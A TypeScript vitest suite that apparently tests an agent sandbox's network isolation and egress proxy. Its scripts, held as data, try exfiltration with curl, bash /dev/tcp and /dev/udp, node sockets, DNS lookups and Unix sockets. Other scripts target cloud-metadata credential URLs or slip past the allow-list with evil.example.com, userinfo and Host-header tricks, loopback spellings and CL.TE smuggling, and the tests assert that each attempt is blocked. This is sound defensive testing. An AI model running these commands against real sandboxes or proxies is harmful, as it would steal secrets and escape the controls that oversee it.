import { rmSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import {
  captureHost,
  createHostileEnv,
  disposeHostileEnvs,
  eventsOf,
  expectHostUnchanged,
  expectNoSecretLeak,
  expectOutcome,
  type HostileEnv,
  type HostileRun,
  type HttpTarget,
  hostAddresses,
  patchPaths,
  patchText,
  READY,
  runHostile,
  shq,
  skipHostile,
  sleep,
  startHttpTarget,
  startTcpSink,
  startUdpSink,
  type TcpSink,
  type UdpSink,
} from './hostile-fixture.js';

afterAll(disposeHostileEnvs);

const open: { close(): Promise<void> }[] = [];
afterEach(async () => {
  for (const item of open.splice(0)) await item.close();
});

async function tcpSink(): Promise<TcpSink> {
  const sink = await startTcpSink();
  open.push(sink);
  return sink;
}

async function udpSink(): Promise<UdpSink> {
  const sink = await startUdpSink();
  open.push(sink);
  return sink;
}

async function httpTarget(): Promise<HttpTarget> {
  const target = await startHttpTarget();
  open.push(target);
  return target;
}

const { ipv4: HOST_IPV4, ipv6: HOST_IPV6 } = hostAddresses();

/** Every address of this host a sandboxed process might try to reach. */
function hostTargets(): string[] {
  return ['127.0.0.1', ...(HOST_IPV4 === null ? [] : [HOST_IPV4])];
}

/** The secrets as the sinks saw them: nothing at all is expected, secrets least of all. */
function sinkBytes(...sinks: { received(): Buffer }[]) {
  return sinks.map((sink, index) => ({ where: `network sink ${index}`, bytes: sink.received() }));
}

async function settle(): Promise<void> {
  // Lets a late connection from a surviving process show up before the sinks are read.
  await sleep(300);
}

describe.skipIf(skipHostile)(
  'adversarial: exfiltration with the network disabled (default policy)',
  () => {
    it('opens TCP connections to a host server on loopback and on the non-loopback address (curl, bash /dev/tcp, node)', async () => {
      const env = createHostileEnv();
      const sink = await tcpSink();
      const before = captureHost(env);
      const script = [
        `for host in ${hostTargets().join(' ')}; do`,
        `  curl -sS -m 3 --data "exfil $(id)" "http://$host:${sink.port}/" 2>&1`,
        `  bash -c "exec 3<>/dev/tcp/$host/${sink.port} && echo exfil >&3" 2>&1`,
        "  node -e \"const s = require('net').connect(" +
          sink.port +
          ", process.argv[1], () => s.end('exfil')); s.on('error', (e) => console.log(e.code))\" \"$host\"",
        'done',
        'echo ok > y.txt',
      ].join('\n');
      const run = await runHostile(env, script);
      await settle();
      expectOutcome(env, run, READY);
      expect(patchPaths(run)).toEqual(['y.txt']);
      expect(sink.connections()).toBe(0);
      expectHostUnchanged(env, before);
      expectNoSecretLeak(env, run, { extra: sinkBytes(sink) });
    });

    it('reaches the host over IPv6 (::1, the host IPv6 address, an IPv4-mapped address)', async () => {
      const env = createHostileEnv();
      const sink = await tcpSink();
      const before = captureHost(env);
      const targets = ['::1', '::ffff:127.0.0.1', ...(HOST_IPV6 === null ? [] : [HOST_IPV6])];
      const script = [
        `for host in ${targets.map(shq).join(' ')}; do`,
        `  curl -sS -g -m 3 "http://[$host]:${sink.port}/" 2>&1`,
        `  node -e "const s = require('net').connect(${sink.port}, process.argv[1], () => s.end('exfil')); s.on('error', (e) => console.log(e.code))" "$host"`,
        'done',
        'echo ok > y.txt',
      ].join('\n');
      const run = await runHostile(env, script);
      await settle();
      expectOutcome(env, run, READY);
      expect(sink.connections()).toBe(0);
      expectHostUnchanged(env, before);
      expectNoSecretLeak(env, run, { extra: sinkBytes(sink) });
    });

    it('sends UDP datagrams to the host (bash /dev/udp, node dgram)', async () => {
      const env = createHostileEnv();
      const sink = await udpSink();
      const before = captureHost(env);
      const script = [
        `for host in ${hostTargets().join(' ')}; do`,
        `  bash -c "exec 3<>/dev/udp/$host/${sink.port} && echo exfil >&3" 2>&1`,
        `  node -e "const s = require('dgram').createSocket('udp4'); s.send('exfil', ${sink.port}, process.argv[1], (e) => { console.log(e ? e.code : 'sent'); s.close(); })" "$host"`,
        'done',
        'echo ok > y.txt',
      ].join('\n');
      const run = await runHostile(env, script);
      await settle();
      expectOutcome(env, run, READY);
      expect(sink.received().length).toBe(0);
      expectHostUnchanged(env, before);
      expectNoSecretLeak(env, run, { extra: sinkBytes(sink) });
    });

    it('leaks data through DNS (getent, the resolver library, a query aimed at a host UDP port)', async () => {
      const env = createHostileEnv();
      const sink = await udpSink();
      const before = captureHost(env);
      const name = `exfil-${env.token}.example.com`;
      const resolverTargets = hostTargets().map((host) => `${host}:${sink.port}`);
      const script = [
        'exec > dns.txt 2>&1',
        `getent hosts ${name}; echo "getent=$?"`,
        `getent ahosts ${name}; echo "getent-ahosts=$?"`,
        `node -e "require('dns').lookup('${name}', (e, a) => console.log('lookup=' + (e ? 'failed ' + e.code : 'ok ' + a)))"`,
        `node -e "const d = new (require('dns').Resolver)(); d.setServers(${JSON.stringify(resolverTargets).replaceAll('"', "'")}); d.resolve4('${name}', (e, a) => console.log('resolve=' + (e ? 'failed ' + e.code : 'ok ' + a)))"`,
        'cat /etc/resolv.conf; true',
      ].join('\n');
      const run = await runHostile(env, script);
      await settle();
      expectOutcome(env, run, READY);
      const results = patchText(run);
      expect(results).toMatch(/getent=[1-9]/);
      expect(results).toMatch(/getent-ahosts=[1-9]/);
      expect(results).toContain('lookup=failed');
      expect(results).toContain('resolve=failed');
      expect(results).not.toMatch(/=ok /);
      expect(sink.received().length).toBe(0);
      expectHostUnchanged(env, before);
      expectNoSecretLeak(env, run, { extra: sinkBytes(sink) });
    });

    it('connects to Unix sockets of the host (an abstract socket, a socket file it knows the path of)', async () => {
      const env = createHostileEnv();
      let accepted = 0;
      const servers: Server[] = [];
      const listen = (path: string) =>
        new Promise<void>((resolve) => {
          const server = createServer((socket) => {
            accepted += 1;
            socket.destroy();
          });
          servers.push(server);
          server.listen(path, () => resolve());
        });
      const abstract = `\0aas-adv-${env.token}`;
      const socketFile = join(env.canary, 'host.sock');
      await listen(abstract);
      await listen(socketFile);
      open.push({
        close: async () => {
          for (const server of servers) server.close();
          rmSync(socketFile, { force: true });
        },
      });
      const before = captureHost(env);
      const script = [
        `node -e "for (const p of ['\\\\0aas-adv-${env.token}', '${socketFile}']) { const s = require('net').connect(p, () => s.end('exfil')); s.on('error', (e) => console.log(e.code)); }"`,
        `socat - ABSTRACT-CONNECT:aas-adv-${env.token} </dev/null 2>&1`,
        'echo ok > y.txt',
      ].join('\n');
      const run = await runHostile(env, script);
      await settle();
      expectOutcome(env, run, READY);
      expect(accepted).toBe(0);
      expectHostUnchanged(env, before);
      expectNoSecretLeak(env, run);
    });
  },
);

/**
 * With the operator's `network: {allow: [...]}` the only way out is AAS's egress proxy. It admits one
 * host server (A, on one port) plus two names; another host server (B) must never be reached,
 * whatever the agent writes in its requests.
 */
describe.skipIf(skipHostile)('adversarial: exfiltration past an egress allow-list', () => {
  interface Setup {
    env: HostileEnv;
    allowed: HttpTarget;
    forbidden: TcpSink;
    policy: Record<string, unknown>;
  }

  async function setup(): Promise<Setup> {
    const env = createHostileEnv();
    const allowed = await httpTarget();
    const forbidden = await tcpSink();
    return {
      env,
      allowed,
      forbidden,
      policy: {
        network: { allow: ['allowed.example.com', 'localhost', `127.0.0.1:${allowed.port}`] },
        limits: { timeoutSec: 60 },
      },
    };
  }

  /**
   * Raw bytes over one connection to the in-sandbox proxy port (bash /dev/tcp). Every byte is
   * sent as a `\xHH` printf escape, so no shell quoting can bend the request.
   */
  function raw(request: string): string {
    const hex = [...Buffer.from(request)]
      .map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`)
      .join('');
    return `bash -c "exec 3<>/dev/tcp/127.0.0.1/3128 && printf '${hex}' >&3 && timeout 5 cat <&3; echo" 2>&1`;
  }

  function refusals(
    run: HostileRun,
  ): { host: string; port: number | null; reason: string; method: string; phase: string }[] {
    return eventsOf(run, 'network.refused').map((event) => event.data as never);
  }

  function expectRefused(run: HostileRun, host: string, port: number | null, reason: string): void {
    expect(refusals(run), JSON.stringify(refusals(run), null, 1)).toContainEqual(
      expect.objectContaining({
        host,
        port,
        phase: 'agent',
        reason: expect.stringMatching(new RegExp(`^${reason}:`)),
      }),
    );
  }

  async function finish(s: Setup, run: HostileRun, before: ReturnType<typeof captureHost>) {
    await settle();
    expectOutcome(s.env, run, READY);
    expect(patchPaths(run)).toContain('y.txt');
    expect(s.forbidden.connections(), 'connections reaching the unlisted server').toBe(0);
    expectHostUnchanged(s.env, before);
    expectNoSecretLeak(s.env, run, {
      extra: [
        ...sinkBytes(s.forbidden),
        { where: 'allowed server', bytes: JSON.stringify(s.allowed.requests) },
      ],
    });
  }

  it('CONNECTs to an unlisted host (https through HTTPS_PROXY, and raw)', async () => {
    const s = await setup();
    const before = captureHost(s.env);
    const script = [
      'curl -sS -m 5 https://evil.example.com/ 2>&1',
      raw(
        `CONNECT 127.0.0.1:${s.forbidden.port} HTTP/1.1\r\nHost: 127.0.0.1:${s.forbidden.port}\r\n\r\n`,
      ),
      'echo ok > y.txt',
    ].join('\n');
    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
    expectRefused(run, 'evil.example.com', 443, 'not-in-allow-list');
    expectRefused(run, '127.0.0.1', s.forbidden.port, 'not-in-allow-list');
    expect(refusals(run).every((r) => r.method === 'CONNECT' || r.method === 'GET')).toBe(true);
    await finish(s, run, before);
  });

  it('dresses an unlisted host up as the allowed one (allowed.example.com.evil.example, evilallowed.example.com)', async () => {
    const s = await setup();
    const before = captureHost(s.env);
    const script = [
      'curl -sS -m 5 http://allowed.example.com.evil.example/ 2>&1',
      'curl -sS -m 5 https://allowed.example.com.evil.example/ 2>&1',
      'curl -sS -m 5 http://evilallowed.example.com/ 2>&1',
      'echo ok > y.txt',
    ].join('\n');
    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
    expectRefused(run, 'allowed.example.com.evil.example', 80, 'not-in-allow-list');
    expectRefused(run, 'allowed.example.com.evil.example', 443, 'not-in-allow-list');
    expectRefused(run, 'evilallowed.example.com', 80, 'not-in-allow-list');
    await finish(s, run, before);
  });

  it('hides the real target behind userinfo (allowed.example.com@127.0.0.1:B, raw CONNECT and absolute-form)', async () => {
    const s = await setup();
    const before = captureHost(s.env);
    const b = s.forbidden.port;
    const script = [
      raw(`CONNECT allowed.example.com@127.0.0.1:${b} HTTP/1.1\r\nHost: 127.0.0.1:${b}\r\n\r\n`),
      raw(
        `GET http://allowed.example.com@127.0.0.1:${b}/ HTTP/1.1\r\nHost: allowed.example.com\r\n\r\n`,
      ),
      `curl -sS -m 5 --noproxy '' "http://allowed.example.com@127.0.0.1:${b}/" 2>&1`,
      'echo ok > y.txt',
    ].join('\n');
    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
    const userinfo = refusals(run).filter((r) => r.reason.startsWith('userinfo-not-allowed:'));
    expect(userinfo.length, JSON.stringify(refusals(run))).toBeGreaterThanOrEqual(2);
    expect(eventsOf(run, 'network.allowed')).toEqual([]);
    await finish(s, run, before);
  });

  it('sends a Host header naming another host than the allowed URL (single and duplicated Host headers)', async () => {
    const s = await setup();
    const before = captureHost(s.env);
    const a = s.allowed.port;
    const script = [
      `curl -sS -m 5 --noproxy '' -H 'Host: evil.example.com' http://127.0.0.1:${a}/mismatch 2>&1`,
      raw(
        `GET http://127.0.0.1:${a}/duplicate HTTP/1.1\r\nHost: 127.0.0.1:${a}\r\nHost: evil.example.com\r\n\r\n`,
      ),
      'echo ok > y.txt',
    ].join('\n');
    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
    expectRefused(run, '127.0.0.1', a, 'host-header-mismatch');
    expect(s.allowed.requests.map((r) => r.url)).toEqual([]);
    await finish(s, run, before);
  });

  it('uses an allowed name that resolves to loopback (localhost, LOCALHOST, localhost.) to reach a host service', async () => {
    const s = await setup();
    const before = captureHost(s.env);
    const b = s.forbidden.port;
    const script = [
      `curl -sS -m 5 --noproxy '' http://localhost:${b}/ 2>&1`,
      `curl -sS -m 5 --noproxy '' http://LOCALHOST:${b}/ 2>&1`,
      `curl -sS -m 5 --noproxy '' http://localhost.:${b}/ 2>&1`,
      raw(`CONNECT localhost:${b} HTTP/1.1\r\nHost: localhost:${b}\r\n\r\n`),
      'echo ok > y.txt',
    ].join('\n');
    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
    expectRefused(run, 'localhost', b, 'resolves-to-special-address');
    expect(refusals(run).length).toBeGreaterThanOrEqual(4);
    expect(eventsOf(run, 'network.allowed')).toEqual([]);
    await finish(s, run, before);
  });

  it('asks for the cloud metadata service (169.254.169.254 over http and CONNECT, fd00:ec2::254)', async () => {
    const s = await setup();
    const before = captureHost(s.env);
    const script = [
      'curl -sS -m 5 http://169.254.169.254/latest/meta-data/iam/security-credentials/ 2>&1',
      'curl -sS -m 5 https://169.254.169.254/ 2>&1',
      "curl -sS -g -m 5 'http://[fd00:ec2::254]/latest/meta-data/' 2>&1",
      'echo ok > y.txt',
    ].join('\n');
    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
    expectRefused(run, '169.254.169.254', 80, 'not-in-allow-list');
    expectRefused(run, '169.254.169.254', 443, 'not-in-allow-list');
    expectRefused(run, 'fd00:ec2::254', 80, 'not-in-allow-list');
    await finish(s, run, before);
  });

  it('reaches an allowed host on another port, and loopback under other spellings (127.1, 2130706433, 0x7f000001, 0.0.0.0, [::1], [::ffff:127.0.0.1])', async () => {
    const s = await setup();
    const before = captureHost(s.env);
    const b = s.forbidden.port;
    const spellings = [
      '127.0.0.1',
      '127.1',
      '2130706433',
      '0x7f000001',
      '0.0.0.0',
      '[::1]',
      '[::ffff:127.0.0.1]',
    ];
    const script = [
      ...spellings.map((host) => `curl -sS -g -m 5 --noproxy '' 'http://${host}:${b}/' 2>&1`),
      ...spellings.map((host) =>
        raw(`CONNECT ${host}:${b} HTTP/1.1\r\nHost: ${host}:${b}\r\n\r\n`),
      ),
      'echo ok > y.txt',
    ].join('\n');
    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
    expectRefused(run, '127.0.0.1', b, 'not-in-allow-list');
    expect(refusals(run).length).toBeGreaterThanOrEqual(spellings.length * 2);
    expect(eventsOf(run, 'network.allowed')).toEqual([]);
    await finish(s, run, before);
  });

  it('pipelines a request to an unlisted port behind an allowed one, and smuggles one in a body (CL.TE)', async () => {
    const s = await setup();
    const before = captureHost(s.env);
    const a = s.allowed.port;
    const b = s.forbidden.port;
    const second = `GET http://127.0.0.1:${b}/second HTTP/1.1\r\nHost: 127.0.0.1:${b}\r\n\r\n`;
    const script = [
      raw(`GET http://127.0.0.1:${a}/first HTTP/1.1\r\nHost: 127.0.0.1:${a}\r\n\r\n${second}`),
      raw(
        `POST http://127.0.0.1:${a}/smuggle HTTP/1.1\r\nHost: 127.0.0.1:${a}\r\nContent-Length: ${second.length + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${second}`,
      ),
      'echo ok > y.txt',
    ].join('\n');
    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
    // The allowed request went through (the proxy works), the one behind it did not.
    const urls = s.allowed.requests.map((r) => r.url);
    expect(urls).toContain('/first');
    expect(urls.every((url) => url === '/first' || url === '/smuggle')).toBe(true);
    expect(eventsOf(run, 'network.allowed').map((e) => e.data.port)).toContain(a);
    expectRefused(run, '127.0.0.1', b, 'not-in-allow-list');
    await finish(s, run, before);
  });

  it('bypasses the proxy with direct connections (--noproxy, bash /dev/tcp) to the allowed server', async () => {
    const s = await setup();
    const before = captureHost(s.env);
    const a = s.allowed.port;
    const script = [
      `curl -sS -m 5 --noproxy '' http://127.0.0.1:${a}/via-proxy 2>&1`,
      ...hostTargets().flatMap((host) => [
        `curl -sS -m 3 --noproxy '*' http://${host}:${a}/direct 2>&1`,
        `bash -c "exec 3<>/dev/tcp/${host}/${a} && printf 'GET /direct-raw HTTP/1.0\\r\\n\\r\\n' >&3" 2>&1`,
      ]),
      'echo ok > y.txt',
    ].join('\n');
    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
    expect(s.allowed.requests.map((r) => r.url)).toEqual(['/via-proxy']);
    await finish(s, run, before);
  });
});
